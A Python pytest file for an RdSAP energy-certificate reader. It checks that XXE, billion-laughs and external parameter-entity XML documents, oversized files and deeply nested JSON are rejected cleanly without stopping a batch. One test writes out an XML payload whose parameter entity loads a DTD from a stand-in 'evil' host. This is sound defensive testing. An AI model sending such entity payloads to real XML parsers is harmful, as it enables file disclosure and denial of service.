"""Hostile documents are refused with a clear error, and never stop a batch."""

from __future__ import annotations

import shutil
import time
from pathlib import Path

import pytest
from rdsap.fixtures.readers_helpers import FIXTURES, SAMPLES

import ara.rdsap.readers.xml_document as xml_document
from ara.rdsap.readers import (
    CertificateReadError,
    UnsafeDocumentError,
    read_certificates,
    read_documents,
    read_rdsap_xml,
    read_register_json,
    xml_to_register_json,
)


def test_xxe_document_is_rejected() -> None:
    with pytest.raises(UnsafeDocumentError) as caught:
        read_rdsap_xml(FIXTURES / "xxe.xml")
    error = caught.value
    assert error.field == "(document)"
    assert "external entity 'xxe'" in error.message and "XXE" in error.message
    assert "root:" not in str(error)  # nothing of /etc/passwd leaks into the message


def test_billion_laughs_document_is_rejected_quickly() -> None:
    started = time.perf_counter()
    with pytest.raises(UnsafeDocumentError) as caught:
        read_rdsap_xml(FIXTURES / "billion_laughs.xml")
    assert time.perf_counter() - started < 2.0
    assert "entity 'lol' declared" in caught.value.message
    assert "billion laughs" in caught.value.message


def test_parameter_entity_is_rejected() -> None:
    document = (b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % remote SYSTEM '
                b'"http://example.invalid/evil.dtd"> %remote;]>\n<RdSAP-Report/>')
    with pytest.raises(UnsafeDocumentError):
        read_rdsap_xml(document)


@pytest.mark.parametrize("name", ["xxe.xml", "billion_laughs.xml"])
def test_register_transform_refuses_hostile_documents(name: str) -> None:
    with pytest.raises(UnsafeDocumentError):
        xml_to_register_json(FIXTURES / name)


def test_batch_reader_reports_hostile_documents_and_goes_on(tmp_path: Path) -> None:
    for name in ("xxe.xml", "billion_laughs.xml"):
        shutil.copy(FIXTURES / name, tmp_path / name)
    shutil.copy(SAMPLES / "RdSAP-Schema-21.0.1" / "epc.xml", tmp_path / "good.xml")
    results = list(read_certificates(tmp_path))
    rows = sum(batch.num_rows for batch, _ in results)
    failures = [f for _, found in results for f in found]
    assert rows == 1
    assert sorted(Path(str(f.source)).name for f in failures) == ["billion_laughs.xml",
                                                                   "xxe.xml"]
    assert all(f.field == "(document)" and "unsafe XML rejected" in f.message
               for f in failures)


def test_in_memory_hostile_documents_are_failures() -> None:
    hostile = (FIXTURES / "xxe.xml").read_bytes()
    batch, failures = next(read_documents([hostile, (FIXTURES / "billion_laughs.xml")
                                           .read_text()]))
    assert batch.num_rows == 0
    assert len(failures) == 2


def test_oversized_document_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xml_document, "MAX_DOCUMENT_BYTES", 1000)
    with pytest.raises(UnsafeDocumentError, match="exceeds the 1000-byte limit"):
        read_rdsap_xml((SAMPLES / "RdSAP-Schema-21.0.1" / "epc.xml").read_bytes())


def test_deeply_nested_json_is_a_read_error_not_a_crash() -> None:
    with pytest.raises(CertificateReadError):
        read_register_json("[" * 200_000 + "]" * 200_000)
    batch, failures = next(read_documents(['{"a": ' * 50_000 + "1" + "}" * 50_000]))
    assert batch.num_rows == 0 and failures[0].field == "(document)"


def test_json_that_is_not_an_object_is_a_read_error() -> None:
    with pytest.raises(CertificateReadError, match="expected a JSON object"):
        read_register_json("[1, 2, 3]")
